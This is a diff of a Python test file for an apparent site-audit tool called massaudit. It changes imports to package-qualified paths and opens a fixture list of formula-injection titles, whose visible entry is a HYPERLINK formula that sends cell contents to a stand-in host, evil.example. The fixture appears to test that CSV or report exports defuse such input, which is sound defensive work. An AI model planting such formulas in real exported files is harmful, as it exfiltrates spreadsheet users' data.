@@ -15,14 +15,14 @@ import pytest
 from integration_helpers import massaudit
 
 from massaudit.cli import main
+from massaudit.reports.ci_formats import CheckedFinding, CheckedPage, CheckReport, write
+from massaudit.reports.documents import DocumentItem, documents_csv
+from massaudit.reports.site import render_scorecard
+from massaudit.reports.views import build_scorecard
+from massaudit.rules.catalogue import load_catalogue
+from massaudit.rules.model import Finding, PageArtifacts
 from massaudit.run import judge
-from reports.ci_formats import CheckedFinding, CheckedPage, CheckReport, write
-from reports.documents import DocumentItem, documents_csv
-from reports.site import render_scorecard
-from reports.views import build_scorecard
-from rules.catalogue import load_catalogue
-from rules.model import Finding, PageArtifacts
-from store.db import RunVersions, Store
+from massaudit.store.db import RunVersions, Store
 
 FORMULA_TITLES = [
     '=HYPERLINK("http://evil.example/?"&A1,"Click")',
